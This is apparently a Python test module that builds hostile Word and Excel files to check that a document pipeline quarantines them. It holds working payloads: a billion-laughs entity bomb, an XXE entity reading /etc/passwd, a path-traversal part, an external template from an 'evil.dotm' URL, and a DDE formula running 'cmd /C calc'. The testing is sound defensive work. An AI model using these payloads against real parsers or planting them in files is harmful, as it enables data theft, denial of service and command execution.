"""Bad Word and Excel files: bombs of XML, claims of size, parts that are missing or point elsewhere.

Belongs here: office files. Does not: archives of files (`bad_archives`).
"""

from __future__ import annotations

import re
import warnings
import zipfile
from collections.abc import Callable
from io import BytesIO

from kcn_pipeline_tests.hostile.corpus import bad_file
from kcn_pipeline_tests.hostile.sound_files import spreadsheet_file, word_file

DOCUMENT = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]>'.encode()


def changed(data: bytes, part: str, change: Callable[[bytes], bytes | None], **added: bytes) -> bytes:
    """An office file with one part changed, or left out when `change` gives None, and parts added."""
    kept = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = change(old.read(name)) if name == part else old.read(name)
            if content is not None:
                new.writestr(name, content)
        for name, content in added.items():
            new.writestr(name, content)
    return kept.getvalue()


def in_word(change: Callable[[bytes], bytes | None], **added: bytes) -> bytes:
    return changed(word_file(), DOCUMENT, change, **added)


def in_sheet(change: Callable[[bytes], bytes | None]) -> bytes:
    return changed(spreadsheet_file(), SHEET, change)


def after_prologue(addition: bytes) -> Callable[[bytes], bytes]:
    return lambda part: re.sub(rb"^(<\?xml[^>]*>)?", lambda found: found[0] + addition, part, count=1)


@bad_file("cut.docx", "quarantined", "cut off")
def word_cut_off() -> bytes:
    return word_file()[:-100]


@bad_file("half.xlsx", "quarantined", "cut off")
def half_a_sheet() -> bytes:
    return spreadsheet_file()[: len(spreadsheet_file()) // 2]


@bad_file("hollow.docx", "quarantined")
def word_without_its_document() -> bytes:
    return in_word(lambda _: None)


@bad_file("mute.docx", "quarantined")
def word_with_an_empty_document() -> bytes:
    return in_word(lambda _: b"")


@bad_file("torn.docx", "quarantined")
def word_with_broken_xml() -> bytes:
    return in_word(lambda part: part[: len(part) // 2])


@bad_file("laughs.docx", "quarantined", "entities")
def a_billion_laughs() -> bytes:
    return in_word(lambda part: after_prologue(BOMB)(part).replace(b"<w:t>", b"<w:t>&l11;", 1))


@bad_file("entity.xlsx", "quarantined", "entities")
def an_entity_from_a_file() -> bytes:
    entity = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return changed(spreadsheet_file(), "xl/workbook.xml", after_prologue(entity))


@bad_file("entity-utf16.docx", "quarantined", "entities")
def an_entity_in_utf16() -> bytes:
    return in_word(lambda part: BOMB.decode().encode("utf-16") + part.decode().encode("utf-16-le"))


@bad_file("template.docx", "registered")
def a_template_from_the_network() -> bytes:
    relation = (
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/attachedTemplate" '
        'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    )
    part = "word/_rels/document.xml.rels"
    return changed(word_file(), part, lambda old: old.replace(b"</Relationships>", relation.encode()))


@bad_file("outside.docx", "quarantined")
def a_part_outside_the_file() -> bytes:
    return changed(word_file(), "_rels/.rels", lambda old: old.replace(b"word/document.xml", b"../../../etc/passwd"))


@bad_file("macros.docx", "registered")
def word_with_macros() -> bytes:
    return in_word(lambda part: part, **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2_000)})


@bad_file("bomb.docx", "quarantined", "unpacks to more")
def a_document_of_a_hundred_megabytes() -> bytes:
    return in_word(lambda part: part.replace(b"</w:body>", b" " * (100 << 20) + b"</w:body>"))


@bad_file("deep.docx", "quarantined")
def xml_nested_without_end() -> bytes:
    return in_word(lambda part: part.replace(b"<w:body>", b"<w:body>" + b"<w:tbl><w:tr><w:tc>" * 30_000, 1))


@bad_file("endless.xlsx", "registered")
def a_sheet_that_claims_every_cell() -> bytes:
    claim = b'<dimension ref="A1:XFD1048576"/>'
    return in_sheet(lambda part: re.sub(rb"<dimension [^>]*>", claim, part))


@bad_file("far.xlsx", "registered")
def a_cell_in_the_last_corner() -> bytes:
    corner = b'<row r="1048576"><c r="XFD1048576"><v>5</v></c></row></sheetData>'
    return in_sheet(lambda part: part.replace(b"</sheetData>", corner))


@bad_file("merged.xlsx", "registered")
def every_cell_merged_into_one() -> bytes:
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return in_sheet(lambda part: part.replace(b"</sheetData>", merged))


@bad_file("strings.xlsx", "registered")
def a_string_that_is_not_there() -> bytes:
    return in_sheet(lambda part: part.replace(b"<v>0</v>", b"<v>999999</v>"))


@bad_file("dates.xlsx", "registered")
def numbers_beyond_numbers() -> bytes:
    return in_sheet(lambda part: part.replace(b"<v>44</v>", b"<v>1e400</v>"))


@bad_file("formulas.xlsx", "registered")
def formulas_that_fetch() -> bytes:
    formula = b"<f>WEBSERVICE(\"http://127.0.0.1:9/\")+cmd|' /C calc'!A0</f><v>44</v>"
    return in_sheet(lambda part: part.replace(b"<v>44</v>", formula))


@bad_file("twice.docx", "registered")
def parts_of_one_name() -> bytes:
    kept = BytesIO(word_file())
    with zipfile.ZipFile(kept, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns, and packs it none the less
        archive.writestr("word/extra.xml", b"<x/>")
        archive.writestr("word/extra.xml", b"<y/>")
    return kept.getvalue()


@bad_file("locked.docx", "quarantined", "locked with a password")
def word_locked_with_a_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)


@bad_file("old.doc", "quarantined", "old Word file")
def an_old_word_file() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_500) + "WordDocument".encode("utf-16-le") + bytes(500)
